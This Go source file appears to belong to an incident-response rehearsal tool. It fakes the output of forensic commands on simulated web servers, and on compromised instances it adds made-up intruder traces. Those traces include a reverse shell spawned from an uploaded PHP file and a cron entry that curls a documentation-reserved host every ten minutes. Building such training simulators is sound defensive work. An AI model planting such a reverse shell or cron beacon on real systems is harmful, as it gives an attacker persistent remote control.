package rehearsal

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"net/netip"
	"regexp"
	"slices"
	"strings"
	"time"
)

// said is what a simulated host prints for a program that a script names. {ip} is its private address.
type said struct{ program, text string }

// ofIntruder is seen on an instance that the scenario's intruder holds; what it tells fits the planted disk.
// Every line of it is made up.
var ofIntruder = []said{
	{"ss -", "tcp   ESTAB 0 0 {ip}:48122 203.0.113.66:443 users:((\"sh\",pid=2288,fd=0),(\"sh\",pid=2288,fd=1),(\"sh\",pid=2288,fd=2)) uid:48 ino:31337\n"},
	{"/proc/net/tcp", "  12: {hex}:BBFA 427100CB:01BB 01 00000000:00000000 00:00000000 00000000    48        0 31337 1\n"},
	{"ps -e", "   2285    1021 apache  Sat Mar 14 02:41:07 2026 ?  S   \\_ sh -c /bin/sh -i <&3 >&3 2>&3 # REHEARSAL: from /var/www/html/uploads/thumb-7f3a.php\n" +
		"   2288    2285 apache  Sat Mar 14 02:41:07 2026 ?  S       \\_ /bin/sh -i\n" +
		"   2290    2288 apache  Sat Mar 14 02:41:09 2026 ?  S           \\_ /var/tmp/.stage.sh (deleted)\n"},
	{"*(deleted)", "lr-x------ 1 apache apache 64 Mar 14 02:41 /proc/2290/fd/255 -> /var/tmp/.stage.sh (deleted)\n"},
	{"/etc/cron", "==> /etc/cron.d/php-sessions <==\n# REHEARSAL: the intruder's way back in; the address is reserved for documentation\n*/10 * * * * apache curl -s http://203.0.113.66/s.txt -o /dev/null\n"},
}

// ofAnyHost is what an ordinary web server prints.
var ofAnyHost = []said{
	{"ss -", "Netid State Recv-Q Send-Q Local Address:Port Peer Address:Port Process\n" +
		"tcp   LISTEN 0 511 0.0.0.0:80 0.0.0.0:* users:((\"nginx\",pid=998,fd=6)) ino:18221\n" +
		"tcp   LISTEN 0 128 0.0.0.0:22 0.0.0.0:* users:((\"sshd\",pid=871,fd=3)) ino:17402\n"},
	{"/proc/net/tcp", "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n" +
		"   0: 00000000:0050 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 18221 1\n" +
		"   1: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 17402 1\n"},
	{"ip -d address", "2: ens5: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 9001 qdisc mq state UP group default qlen 1000\n    inet {ip}/24 metric 512 brd + scope global dynamic ens5\n"},
	{"ip neighbour", "10.20.0.1 dev ens5 lladdr 02:00:5e:00:53:01 REACHABLE\n"},
	{"ps -e", "    PID    PPID USER    STARTED                  TT STAT COMMAND\n" +
		"      1       0 root    Sun Feb 22 03:00:40 2026 ?  Ss  /usr/lib/systemd/systemd --switched-root --system\n" +
		"    871       1 root    Sun Feb 22 03:00:52 2026 ?  Ss  sshd: /usr/sbin/sshd -D\n" +
		"    902       1 root    Sun Feb 22 03:00:52 2026 ?  Ssl /usr/bin/amazon-ssm-agent\n" +
		"    998       1 root    Sun Feb 22 03:00:53 2026 ?  Ss  nginx: master process /usr/sbin/nginx\n" +
		"   1021       1 apache  Sun Feb 22 03:00:53 2026 ?  S   php-fpm: pool www\n"},
	{"*(deleted)", ""},
	{"who -a", "           system boot  Feb 22 03:00\nLOGIN      ttyS0        Feb 22 03:00               888 id=tyS0\n"},
	{"/proc/modules", "ena 180224 0 - Live 0x0000000000000000\nnvme 61440 3 - Live 0x0000000000000000\n0\n"},
	{"/proc/self/mountinfo", "28 1 259:1 / / rw,noatime shared:1 - ext4 /dev/nvme0n1p1 rw\n61 28 259:2 / /srv rw,noatime shared:30 - ext4 /dev/nvme1n1 rw\n"},
	{"uname -a", "Linux web-1 6.1.155-176.282.amzn2023.x86_64 #1 SMP PREEMPT_DYNAMIC x86_64 GNU/Linux\n"},
	{"/etc/cron", "==> /etc/crontab <==\nSHELL=/bin/bash\n"},
}

// compressed is how a script's output is asked for that must fit.
var compressed = regexp.MustCompile(`\| *gzip[^|]*\| *base64 *$`)

// shell answers a script: what the programs print that it names, one after the other. It runs nothing. A
// script that names none of them ends as one whose program is not there. On an instance that is held the intruder shows.
func (i *instance) shell(commands []string, held bool, now time.Time) (out string, code int32) {
	script := strings.Join(commands, "\n")
	if m := acquires.FindStringSubmatch(script); m != nil {
		return i.acquire(m, now)
	}
	known := false
	address := netip.MustParseAddr(i.PrivateIP).As4()
	slices.Reverse(address[:]) // as /proc shows it
	own := strings.NewReplacer("{ip}", i.PrivateIP, "{hex}", fmt.Sprintf("%X", address))
	var b bytes.Buffer
	for _, s := range ofAnyHost {
		if !strings.Contains(script, s.program) {
			continue
		}
		known = true
		b.WriteString(own.Replace(s.text))
		for _, x := range ofIntruder {
			if held && x.program == s.program {
				b.WriteString(own.Replace(x.text))
			}
		}
	}
	if !known {
		return "sh: command not found\n", 127
	}
	if strings.Contains(script, "date;") {
		fmt.Fprintln(&b, now.UTC().Format(time.UnixDate))
	}
	if !compressed.MatchString(script) {
		return b.String(), 0
	}
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	// A bytes.Buffer takes everything.
	_, _ = z.Write(b.Bytes())
	_ = z.Close()
	return base64.StdEncoding.EncodeToString(packed.Bytes()), 0
}
